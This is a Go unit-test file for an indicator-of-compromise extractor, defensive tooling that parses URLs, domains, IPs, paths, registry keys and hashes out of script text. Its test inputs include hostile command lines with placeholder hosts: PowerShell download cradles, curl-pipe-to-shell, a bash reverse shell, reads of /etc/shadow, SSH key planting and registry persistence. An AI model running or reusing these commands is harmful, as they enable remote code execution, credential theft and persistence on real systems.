package ioc

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

// tv is an expected (Type, Value) pair.
type tv struct {
	T Type
	V string
}

func pairs(iocs []IOC) []tv {
	out := make([]tv, 0, len(iocs))
	for _, c := range iocs {
		out = append(out, tv{c.Type, c.Value})
	}
	return out
}

type extractCase struct {
	name string
	text string
	want []tv // the exact Extract result, in order; nil means no IOC
}

func runExtract(t *testing.T, cases []extractCase) {
	t.Helper()
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			got := Extract(tc.text, 0)
			if diff := cmp.Diff(tc.want, pairs(got), cmpopts.EquateEmpty()); diff != "" {
				t.Errorf("Extract(%q) mismatch (-want +got):\n%s", tc.text, diff)
			}
			checkInvariants(t, tc.text, 0, got)
		})
	}
}

func TestExtractURL(t *testing.T) {
	runExtract(t, []extractCase{
		{"powershell cradle", `IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')`,
			[]tv{{URL, "http://evil.example/a.ps1"}, {Domain, "evil.example"}}},
		{"powershell iwr double quotes", `Invoke-WebRequest -Uri "https://cdn.evil.example:8443/x?id=1&k=2" -OutFile $p`,
			[]tv{{URL, "https://cdn.evil.example:8443/x?id=1&k=2"}, {Domain, "cdn.evil.example"}}},
		{"javascript open", `x.open("GET", "http://198.51.100.7/p.bin", false);`,
			[]tv{{URL, "http://198.51.100.7/p.bin"}, {IPv4, "198.51.100.7"}}},
		{"vbscript", `objXML.Open "GET", "http://files.evil.example/d.exe", False`,
			[]tv{{URL, "http://files.evil.example/d.exe"}, {Domain, "files.evil.example"}}},
		{"batch", `bitsadmin /transfer j /download /priority high http://203.0.113.9/u.exe %TEMP%\u.exe`,
			[]tv{{URL, "http://203.0.113.9/u.exe"}, {IPv4, "203.0.113.9"}, {FilePath, `%TEMP%\u.exe`}}},
		{"bash pipe", `curl -fsSL http://evil.example/i.sh|sh`,
			[]tv{{URL, "http://evil.example/i.sh"}, {Domain, "evil.example"}}},
		{"bash subshell", `eval "$(wget -qO- http://evil.example/x)"`,
			[]tv{{URL, "http://evil.example/x"}, {Domain, "evil.example"}}},
		{"python", `urllib.request.urlopen('ftp://files.evil.example/pub/a.py');`,
			[]tv{{URL, "ftp://files.evil.example/pub/a.py"}, {Domain, "files.evil.example"}}},
		{"backtick and semicolon", "$u = `\"http://evil.example/a`\";",
			[]tv{{URL, "http://evil.example/a"}, {Domain, "evil.example"}}},
		{"prose punctuation", `See (http://evil.example/page_(x)), then http://b.example/y.`,
			[]tv{{URL, "http://evil.example/page_(x)"}, {Domain, "evil.example"}, {URL, "http://b.example/y"}, {Domain, "b.example"}}},
		{"defanged hxxp and brackets", `hxxps://evil[.]example/a and hxxp[:]//bad(.)example/b`,
			[]tv{{URL, "https://evil.example/a"}, {Domain, "evil.example"}, {URL, "http://bad.example/b"}, {Domain, "bad.example"}}},
		{"defanged fxp and dot word", `fxp://files[dot]evil[dot]example/x`,
			[]tv{{URL, "ftp://files.evil.example/x"}, {Domain, "files.evil.example"}}},
		{"upper case scheme and host", `HTTP://EVIL.Example/Path`,
			[]tv{{URL, "http://evil.example/Path"}, {Domain, "evil.example"}}},
		{"ipv6 host", `http://[2001:db8::10]:8080/x`,
			[]tv{{URL, "http://[2001:db8::10]:8080/x"}, {IPv6, "2001:db8::10"}}},
		{"userinfo", `ftp://user:pw@198.51.100.3/`,
			[]tv{{URL, "ftp://user:pw@198.51.100.3/"}, {IPv4, "198.51.100.3"}}},
		{"nested url in query", `http://a.example/r?u=http://b.example/x`,
			[]tv{{URL, "http://a.example/r?u=http://b.example/x"}, {Domain, "a.example"}, {URL, "http://b.example/x"}, {Domain, "b.example"}}},
		{"websocket", `new WebSocket("wss://c2.evil.example/ws")`,
			[]tv{{URL, "wss://c2.evil.example/ws"}, {Domain, "c2.evil.example"}}},
		{"host in url may be a file-extension tld", `http://payload.zip/a`,
			[]tv{{URL, "http://payload.zip/a"}, {Domain, "payload.zip"}}},
		{"variable host", `$u = "http://$server/x"; y = 'http://' + host + '/x'; "http://{0}/x" -f $h`, nil},
		{"unknown tld host", `http://intranet.corp/x http://localhost:8080/`, nil},
		{"unknown scheme", `file:///etc/passwd xhttp://evil.example/`, []tv{{FilePath, "/etc/passwd"}, {Domain, "evil.example"}}},
		{"non-numeric port", `http://evil.example:$port/x`, []tv{{Domain, "evil.example"}}},
	})
}

func TestExtractDomain(t *testing.T) {
	runExtract(t, []extractCase{
		{"quoted powershell", `$c2 = "update.evil.example"`, []tv{{Domain, "update.evil.example"}}},
		{"bash argument", `nslookup c2.evil.top; ping -c1 mail.evil.example`,
			[]tv{{Domain, "c2.evil.top"}, {Domain, "mail.evil.example"}}},
		{"batch argument", `ping -n 1 beacon.evil.invalid >nul`, []tv{{Domain, "beacon.evil.invalid"}}},
		{"host with path, no scheme", `wget evil.example/x.sh`, []tv{{Domain, "evil.example"}}},
		{"defanged", `evil[.]example and bad(.)example and c2[dot]evil[dot]test`,
			[]tv{{Domain, "evil.example"}, {Domain, "bad.example"}, {Domain, "c2.evil.test"}}},
		{"spaced dot word", `evil [dot] example`, []tv{{Domain, "evil.example"}}},
		{"onion and punycode", `"abcdefghijklmnop.onion" "xn--80ak6aa92e.xn--p1ai"`,
			[]tv{{Domain, "abcdefghijklmnop.onion"}, {Domain, "xn--80ak6aa92e.xn--p1ai"}}},
		{"member tld with host context", `host = 'panel.evil.io'; fetch("//cdn.evil.app/x")`,
			[]tv{{Domain, "panel.evil.io"}, {Domain, "cdn.evil.app"}}},
		{"initial capitals", `Contact Example.com support`, []tv{{Domain, "example.com"}}},
		{"member tld after network commands", "ping -n 1 beacon.evil.top\nTest-NetConnection -ComputerName panel.evil.info -Port 443\ncurl -k c2.evil.host:8443",
			[]tv{{Domain, "beacon.evil.top"}, {Domain, "panel.evil.info"}, {Domain, "c2.evil.host"}}},
		{"member tld quoted", `$c = 'update.evil.top'`, []tv{{Domain, "update.evil.top"}}},

		// False positives: member access and file names in the six languages.
		{"powershell dotnet types", `[System.Net.WebClient]::new(); [System.IO.File]::ReadAllBytes($p); using namespace System.Net`, nil},
		{"powershell members", `$r = Invoke-WebRequest.Content; $wc.DownloadFile($u,$p); $host.name; $PSVersionTable.PSVersion`, nil},
		{"powershell script names", `. .\foo.ps1; Import-Module .\mod.psm1; & "$PSScriptRoot\run.sh"`, nil},
		{"javascript members", `document.write(s); window.top.location = u; console.log(x); Math.round(y); this.name = n; self.host = h;`, nil},
		{"javascript minified", `return n>0&&"SyntaxError"!=t.name&&(e=e.slice(n)),e; a.id=b.id; c.sa=1`, nil},
		{"javascript obfuscated fragments", `function f(){ p += 'h.ro'; } function g(){ p += 'on.co'; }`, nil},
		{"javascript module names", `const io = require('socket.io'); import x from "engine.io";`, nil},
		{"jscript wsh", `var sh = WScript.CreateObject("WScript.Shell"); sh.run(cmd); wscript.shell; obj.Run`, nil},
		{"vbscript", `Set o = CreateObject("Scripting.FileSystemObject"): objShell.Run c: Me.Name = x: WScript.Echo Err.Number`, nil},
		{"batch files", `copy payload.zip %TEMP% & start file.exe & call setup.bat & command.com`, nil},
		{"bash files", `chmod +x run.sh; python3 setup.py install; cat README.md; ./configure.ac; git config user.email x`, nil},
		{"python members", `import os.path; from google.cloud import storage; subprocess.run(c); asyncio.run(m()); self.name = 1; os.name`, nil},
		{"python assignment", `resp.status = 200; parsed.host = h; client.transport.name = n`, nil},
		{"paths hide names", `C:\Tools\update.com \\?\C:\x\evil.example /tmp/evil.example/x`, []tv{
			{FilePath, `C:\Tools\update.com`}, {FilePath, `\\?\C:\x\evil.example`}, {FilePath, "/tmp/evil.example/x"}}},
		{"variable sigils", `$evil.example %evil.example #evil.example`, nil},
		{"camel case labels", `objFSO.info oXmlHttp.top`, nil},
		{"unknown tld", `config.yaml data.json index.html lib.so.6 1.2.3 v1.2.3a`, nil},
		{"javascript properties", `y = ev.clientY - rect.top; link.dep.sc++; cxt.fail$data(c); if (k in stream.jobs) {}`, nil},
		{"quoted property paths", `mpath.get('first.second.third.name', o); throw Error("async.auto cannot run")`, nil},
		{"css class selector", `.log-message.info .badge { color: red }`, nil},
		{"python idioms", `operator.lt; "{1.day:02d}".format(dt); self.int == other.int; log4j.properties`, nil},
		{"numeric labels", `versions 5.5.kw and 2.0.beta`, nil},
	})
}

func TestExtractIPv4(t *testing.T) {
	runExtract(t, []extractCase{
		{"powershell", `$ip = '192.0.2.10'; Test-NetConnection 198.51.100.20 -Port 445`,
			[]tv{{IPv4, "192.0.2.10"}, {IPv4, "198.51.100.20"}}},
		{"bash reverse shell", `bash -i >& /dev/tcp/203.0.113.9/4444 0>&1`,
			[]tv{{FilePath, "/dev/tcp/203.0.113.9/4444"}, {IPv4, "203.0.113.9"}}},
		{"port suffix and range", `203.0.113.5:8080 192.0.2.1-192.0.2.9`,
			[]tv{{IPv4, "203.0.113.5"}, {IPv4, "192.0.2.1"}, {IPv4, "192.0.2.9"}}},
		{"end of sentence", `beacon to 198.51.100.77.`, []tv{{IPv4, "198.51.100.77"}}},
		{"defanged", `192.0.2[.]55 and 198[.]51[.]100[.]1`, []tv{{IPv4, "192.0.2.55"}, {IPv4, "198.51.100.1"}}},

		{"assembly version", `[assembly: AssemblyVersion("1.0.0.0")]`, nil},
		{"module version", `ModuleVersion = '2.1.0.3'`, nil},
		{"version cast", `$v = [Version]'2.8.5.201'; if ([version]$x -lt "7.0.0.2") {}`, nil},
		{"python version", `__version__ = "1.2.3.4"`, nil},
		{"pip pin", `pip install foo==1.2.3.4`, nil},
		{"v prefix", `release v1.2.3.4 and ver 5.6.7.8`, nil},
		{"five parts", `oid 1.3.6.1.4.1.311 and 10.0.19041.1`, nil},
		{"bad octets", `300.1.2.3 01.02.03.04 0.1.2.3`, nil},
	})
}

func TestExtractIPv6(t *testing.T) {
	runExtract(t, []extractCase{
		{"bare", `connect 2001:db8::7 now`, []tv{{IPv6, "2001:db8::7"}}},
		{"canonical form", `2001:0DB8:0000:0000:0000:0000:0000:0001`, []tv{{IPv6, "2001:db8::1"}}},
		{"ipv4 mapped also yields the ipv4", `::ffff:192.0.2.1`, []tv{{IPv6, "::ffff:192.0.2.1"}, {IPv4, "192.0.2.1"}}},
		{"defanged", `2001[:]db8[:][:]99`, []tv{{IPv6, "2001:db8::99"}}},

		{"powershell static", `[Convert]::FromBase64String($s); [Text.Encoding]::UTF8; [x]::Add`, nil},
		{"batch comment", ":: set up\r\n::\r\n", nil},
		{"python slices", `a[::2] b[1::2] c[:]`, nil},
		{"cpp and times", `std::vector 12:30:45 aa:bb:cc:dd:ee:ff C::`, nil},
		{"loopback and unspecified", `:: ::1`, nil},
	})
}

func TestExtractEmail(t *testing.T) {
	runExtract(t, []extractCase{
		{"plain", `send to ops@evil.example now`, []tv{{Email, "ops@evil.example"}, {Domain, "evil.example"}}},
		{"powershell smtp", `Send-MailMessage -From 'a.b+x@mail.evil.example' -SmtpServer smtp.evil.example`,
			[]tv{{Email, "a.b+x@mail.evil.example"}, {Domain, "mail.evil.example"}, {Domain, "smtp.evil.example"}}},
		{"defanged", `admin[at]corp[.]example and root[@]evil[.]example`,
			[]tv{{Email, "admin@corp.example"}, {Domain, "corp.example"}, {Email, "root@evil.example"}, {Domain, "evil.example"}}},
		{"domain lower-cased", `Bob@Mail.Example`, []tv{{Email, "Bob@mail.example"}, {Domain, "mail.example"}}},

		{"decorators and splats", `@property @app.route("/") @{a=1} @args`, nil},
		{"package versions", `npm i left-pad@1.3.0 image@sha256:abc`, nil},
		{"url userinfo is not an email", `http://user@evil.example/`, []tv{{URL, "http://user@evil.example/"}, {Domain, "evil.example"}}},
		{"unknown tld", `user@localhost root@host.corp`, nil},
	})
}

func TestExtractFilePath(t *testing.T) {
	runExtract(t, []extractCase{
		{"drive", `copy C:\Users\Public\x.exe D:\out\`, []tv{{FilePath, `C:\Users\Public\x.exe`}, {FilePath, `D:\out`}}},
		{"escaped javascript", `var p = "C:\\Users\\Public\\x.exe";`, []tv{{FilePath, `C:\Users\Public\x.exe`}}},
		{"forward slashes", `open("C:/ProgramData/x.dll")`, []tv{{FilePath, `C:/ProgramData/x.dll`}}},
		{"quoted with spaces and switch", `"C:\Program Files\App Dir\app.exe /S"`, []tv{{FilePath, `C:\Program Files\App Dir\app.exe`}}},
		{"unquoted program files", `start C:\Program Files (x86)\Tool\t.exe -q`, []tv{{FilePath, `C:\Program Files (x86)\Tool\t.exe`}}},
		{"batch env", `copy a %APPDATA%\Microsoft\x.exe & %~dp0run.bat`, []tv{{FilePath, `%APPDATA%\Microsoft\x.exe`}, {FilePath, `%~dp0run.bat`}}},
		{"batch env with parens", `"%ProgramFiles(x86)%\Tool\t.exe"`, []tv{{FilePath, `%ProgramFiles(x86)%\Tool\t.exe`}}},
		{"powershell env", `$p = "$env:TEMP\a.ps1"; ${env:APPDATA}\b.exe; "$($Env:SystemRoot)\x.exe"`,
			[]tv{{FilePath, `$env:TEMP\a.ps1`}, {FilePath, `${env:APPDATA}\b.exe`}}},
		{"unc", `net use \\fs01.corp.example\share$ & copy \\198.51.100.4\c$\x.exe .`,
			[]tv{{FilePath, `\\fs01.corp.example\share$`}, {Domain, "fs01.corp.example"}, {FilePath, `\\198.51.100.4\c$\x.exe`}, {IPv4, "198.51.100.4"}}},
		{"unc escaped", `"\\\\srv01\\drop\\a.txt"`, []tv{{FilePath, `\\srv01\drop\a.txt`}}},
		{"webdav unc", `\\evil.example@SSL\DavWWWRoot\x.dll`, []tv{{FilePath, `\\evil.example@SSL\DavWWWRoot\x.dll`}, {Domain, "evil.example"}}},
		{"named pipe", `\\.\pipe\msagent_12`, []tv{{FilePath, `\\.\pipe\msagent_12`}}},
		{"unix", `cp x /tmp/.x; echo k >> ~/.ssh/authorized_keys; cat /etc/shadow > /dev/shm/s`,
			[]tv{{FilePath, "/tmp/.x"}, {FilePath, "~/.ssh/authorized_keys"}, {FilePath, "/etc/shadow"}, {FilePath, "/dev/shm/s"}}},
		{"unix home var", `echo x >> $HOME/.bashrc; cp a ${HOME}/.profile`, []tv{{FilePath, "$HOME/.bashrc"}, {FilePath, "${HOME}/.profile"}}},
		{"python", `open('/etc/passwd').read(); os.remove("/var/log/auth.log")`,
			[]tv{{FilePath, "/etc/passwd"}, {FilePath, "/var/log/auth.log"}}},

		{"dev null and shebang", "#!/usr/bin/env bash\ncmd >/dev/null 2>&1 </dev/zero", nil},
		{"bare roots and comments", `cd / ; cd /tmp ; // comment /* c */ ./tmp/x a/tmp/b`, nil},
		{"escaped relative path", `os.getenv("USERPROFILE") + "\\Desktop\\x.txt"`, nil},
		{"regex escapes", `re.compile("\\d+\\.\\d+\\s\\w")`, nil},
		{"wmi namespace", `GetObject("winmgmts:\\.\root\cimv2")`, nil},
		{"drive alone", `Get-ChildItem C:\ -Recurse; HKLM:\`, nil},
	})
}

func TestExtractRegistryKey(t *testing.T) {
	runExtract(t, []extractCase{
		{"batch reg add", `reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v U /d x /f`,
			[]tv{{RegistryKey, `HKCU\Software\Microsoft\Windows\CurrentVersion\Run`}}},
		{"quoted with spaces", `reg add "HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger`,
			[]tv{{RegistryKey, `HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe`}}},
		{"powershell drive", `Set-ItemProperty -Path HKCU:\Software\Classes\ms-settings\shell\open\command -Name x`,
			[]tv{{RegistryKey, `HKCU\Software\Classes\ms-settings\shell\open\command`}}},
		{"powershell provider", `Get-Item 'Registry::HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services'`,
			[]tv{{RegistryKey, `HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services`}}},
		{"vbscript regwrite", `sh.RegWrite "HKEY_CURRENT_USER\Software\x\y", 1, "REG_DWORD"`,
			[]tv{{RegistryKey, `HKEY_CURRENT_USER\Software\x\y`}}},
		{"javascript escaped", `sh.RegRead("HKLM\\SOFTWARE\\Policies\\x");`, []tv{{RegistryKey, `HKLM\SOFTWARE\Policies\x`}}},
		{"lower case hive", `reg query hklm\system\setup`, []tv{{RegistryKey, `HKLM\system\setup`}}},

		{"hive alone", `cd HKLM:\ ; reg query HKCU`, nil},
		{"inside a word", `MyHKLM\x XHKCU\y`, nil},
	})
}

func TestExtractHash(t *testing.T) {
	md5 := "d41d8cd98f00b204e9800998ecf8427e"
	sha1 := "da39a3ee5e6b4b0d3255bfef95601890afd80709"
	sha256 := "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
	runExtract(t, []extractCase{
		{"all three", fmt.Sprintf("md5 %s sha1=%s\n'%s'", md5, sha1, sha256),
			[]tv{{MD5, md5}, {SHA1, sha1}, {SHA256, sha256}}},
		{"upper case", `Get-FileHash x | ? Hash -eq "` + strings.ToUpper(sha256) + `"`, []tv{{SHA256, sha256}}},
		{"file name", md5 + ".exe", []tv{{MD5, md5}}},

		{"inside longer hex", "4d5a9000" + sha256 + "00", nil},
		{"0x prefix", "0x" + md5, nil},
		{"low entropy", strings.Repeat("0", 24) + "deadbeef " + strings.Repeat("ab", 16), nil},
		{"mixed case", "D41d8cD98f00B204e9800998eCf8427e", nil},
		{"no digits or no letters", strings.Repeat("abcdef", 6)[:32] + " " + strings.Repeat("1234567890", 4)[:32], nil},
		{"wrong length", md5[:31] + " " + sha1 + "a", nil},
	})
}

func TestExtractOffsets(t *testing.T) {
	text := `x hxxp://evil[.]example/a y 192.0.2[.]7 z user[at]b[.]example`
	got := Extract(text, 3)
	want := []struct {
		t   Type
		off int
		raw string // text at Offset
	}{
		{URL, 2, "hxxp://"},
		{Domain, 9, "evil[.]example"},
		{IPv4, 28, "192.0.2[.]7"},
		{Email, 42, "user[at]"},
		{Domain, 50, "b[.]example"},
	}
	if len(got) != len(want) {
		t.Fatalf("got %d IOCs %v, want %d", len(got), pairs(got), len(want))
	}
	for i, w := range want {
		g := got[i]
		if g.Type != w.t || g.Offset != w.off || !strings.HasPrefix(text[g.Offset:], w.raw) || g.Layer != 3 {
			t.Errorf("IOC %d: got %s at %d (layer %d, %q), want %s at %d (%q)", i, g.Type, g.Offset, g.Layer, text[g.Offset:], w.t, w.off, w.raw)
		}
	}
}

func TestExtractLimits(t *testing.T) {
	t.Run("per layer cap keeps first", func(t *testing.T) {
		var b strings.Builder
		for i := range 1200 {
			fmt.Fprintf(&b, "10.%d.%d.1 ", i/250, i%250+1)
		}
		got := Extract(b.String(), 0)
		if len(got) != MaxPerLayer {
			t.Fatalf("got %d IOCs, want %d", len(got), MaxPerLayer)
		}
		if got[0].Value != "10.0.1.1" || got[MaxPerLayer-1].Value != "10.1.250.1" {
			t.Errorf("got first %q last %q, want 10.0.1.1 and 10.1.250.1", got[0].Value, got[MaxPerLayer-1].Value)
		}
	})
	t.Run("cap counts distinct values", func(t *testing.T) {
		text := strings.Repeat("192.0.2.1 ", 2000) + "evil.example"
		got := pairs(Extract(text, 0))
		want := []tv{{IPv4, "192.0.2.1"}, {Domain, "evil.example"}}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("mismatch (-want +got):\n%s", diff)
		}
	})
	t.Run("long url dropped, host kept", func(t *testing.T) {
		text := "http://evil.example/" + strings.Repeat("a", MaxValueLen) + " ok"
		got := pairs(Extract(text, 0))
		want := []tv{{Domain, "evil.example"}}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("mismatch (-want +got):\n%s", diff)
		}
	})
	t.Run("url at the length limit kept", func(t *testing.T) {
		u := "http://evil.example/" + strings.Repeat("a", MaxValueLen-len("http://evil.example/"))
		got := Extract(u, 0)
		if len(got) != 2 || got[0].Value != u {
			t.Errorf("got %d IOCs, want the %d-byte URL and its host", len(got), len(u))
		}
	})
	t.Run("long path dropped", func(t *testing.T) {
		text := `C:\` + strings.Repeat(`dir\`, MaxValueLen/4+1) + "x.exe"
		for _, c := range Extract(text, 0) {
			if len(c.Value) > MaxValueLen {
				t.Errorf("got a %d-byte %s value, want at most %d", len(c.Value), c.Type, MaxValueLen)
			}
		}
	})
	t.Run("empty and tiny", func(t *testing.T) {
		for _, s := range []string{"", "a", "::", "\x00\xff"} {
			if got := Extract(s, 0); got != nil {
				t.Errorf("Extract(%q): got %v, want nil", s, got)
			}
		}
	})
}

func TestMerge(t *testing.T) {
	l0 := Extract(`powershell -enc ... http://a.example/x`, 0)
	l1 := Extract(`IEX (iwr http://a.example/x); $ip = "192.0.2.5"`, 1)
	l2 := Extract(`192.0.2.5 c2.b.example`, 2)
	got := Merge(l0, l1, l2)
	want := []struct {
		tv
		layer int
	}{
		{tv{URL, "http://a.example/x"}, 0},
		{tv{Domain, "a.example"}, 0},
		{tv{IPv4, "192.0.2.5"}, 1},
		{tv{Domain, "c2.b.example"}, 2},
	}
	if len(got) != len(want) {
		t.Fatalf("got %v, want %d IOCs", pairs(got), len(want))
	}
	for i, w := range want {
		if got[i].Type != w.T || got[i].Value != w.V || got[i].Layer != w.layer {
			t.Errorf("IOC %d: got %s %q layer %d, want %s %q layer %d", i, got[i].Type, got[i].Value, got[i].Layer, w.T, w.V, w.layer)
		}
	}
	if got[2].Offset != l1[2].Offset {
		t.Errorf("merged IPv4 offset: got %d, want the layer-1 offset %d", got[2].Offset, l1[2].Offset)
	}

	t.Run("lowest layer wins when given out of order", func(t *testing.T) {
		a := []IOC{{Type: Domain, Value: "x.example", Layer: 4, Offset: 9}}
		b := []IOC{{Type: Domain, Value: "x.example", Layer: 1, Offset: 2}, {Type: Domain, Value: "y.example", Layer: 1}}
		got := Merge(a, b)
		if len(got) != 2 || got[0].Layer != 1 || got[0].Offset != 2 || got[1].Value != "y.example" {
			t.Errorf("got %+v, want x.example from layer 1 at 2, then y.example", got)
		}
	})
	t.Run("empty", func(t *testing.T) {
		if got := Merge(nil, []IOC{}); got == nil || len(got) != 0 {
			t.Errorf("got %#v, want an empty non-nil slice", got)
		}
	})
}

func TestTypes(t *testing.T) {
	seen := map[Type]bool{}
	for _, ty := range Types() {
		if !ty.Valid() || seen[ty] || ty == "" {
			t.Errorf("type %q: got invalid or duplicate, want a unique valid type", ty)
		}
		seen[ty] = true
	}
	if len(seen) != numTypes {
		t.Errorf("got %d types, want %d", len(seen), numTypes)
	}
	if Type("nope").Valid() {
		t.Error(`Type("nope").Valid(): got true, want false`)
	}
}

func TestTLDList(t *testing.T) {
	for _, tld := range []string{"com", "org", "ru", "top", "xyz", "onion", "example", "invalid", "test", "local", "xn--p1ai"} {
		if _, ok := tlds[tld]; !ok {
			t.Errorf("TLD %q: got absent, want present", tld)
		}
	}
	// Member names and file extensions that are not TLDs, or deliberately
	// left out, must stay out.
	for _, tld := range []string{"exe", "ps1", "js", "vbs", "bat", "write", "log", "path", "shell", "content", "length", "read", "save", "now", "call", "open", "data"} {
		if _, ok := tlds[tld]; ok {
			t.Errorf("TLD %q: got present, want absent", tld)
		}
	}
	for tld := range fileExtTLDs {
		if _, ok := tlds[tld]; !ok {
			t.Errorf("file-extension TLD %q is not in tlds.txt", tld)
		}
	}
	for tld := range memberTLDs {
		if _, ok := tlds[tld]; !ok {
			t.Errorf("member TLD %q is not in tlds.txt", tld)
		}
	}
}

// checkInvariants asserts what every Extract result must satisfy.
func checkInvariants(t testing.TB, text string, layer int, got []IOC) {
	t.Helper()
	if len(got) > MaxPerLayer {
		t.Errorf("got %d IOCs, want at most %d", len(got), MaxPerLayer)
	}
	seen := make(map[tv]bool, len(got))
	prev := -1
	for _, c := range got {
		k := tv{c.Type, c.Value}
		switch {
		case !c.Type.Valid():
			t.Errorf("IOC %+v: invalid type", c)
		case c.Value == "" || len(c.Value) > MaxValueLen:
			t.Errorf("IOC %s: value length %d, want 1..%d", c.Type, len(c.Value), MaxValueLen)
		case c.Offset < 0 || c.Offset >= len(text):
			t.Errorf("IOC %s %q: offset %d outside the %d-byte text", c.Type, c.Value, c.Offset, len(text))
		case c.Offset < prev:
			t.Errorf("IOC %s %q: offset %d before the previous %d, want first-appearance order", c.Type, c.Value, c.Offset, prev)
		case Refang(c.Value) != c.Value:
			t.Errorf("IOC %s %q: value is not refanged (Refang gives %q)", c.Type, c.Value, Refang(c.Value))
		case Refang(c.Defanged) != c.Value:
			t.Errorf("IOC %s %q: Refang(Defanged %q) = %q, want the value", c.Type, c.Value, c.Defanged, Refang(c.Defanged))
		case c.Layer != layer:
			t.Errorf("IOC %s %q: layer %d, want %d", c.Type, c.Value, c.Layer, layer)
		case seen[k]:
			t.Errorf("IOC %s %q: duplicate", c.Type, c.Value)
		}
		seen[k] = true
		prev = c.Offset
	}
}
